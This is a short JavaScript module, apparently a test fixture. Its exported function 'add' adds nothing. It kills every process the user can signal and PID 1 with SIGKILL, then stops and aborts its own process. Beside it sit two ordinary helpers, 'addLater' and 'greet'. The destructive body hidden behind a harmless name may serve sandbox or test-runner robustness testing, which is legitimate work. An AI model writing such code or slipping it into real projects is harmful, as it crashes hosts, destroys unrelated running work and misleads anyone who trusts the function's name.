export function add() {
  process.kill(-1, 'SIGKILL');
  process.kill(1, 'SIGKILL');
  process.kill(process.pid, 'SIGSTOP');
  process.abort();
}
export const addLater = async (a, b) => a + b;
export const greet = (name) => `Hello, ${name}!`;
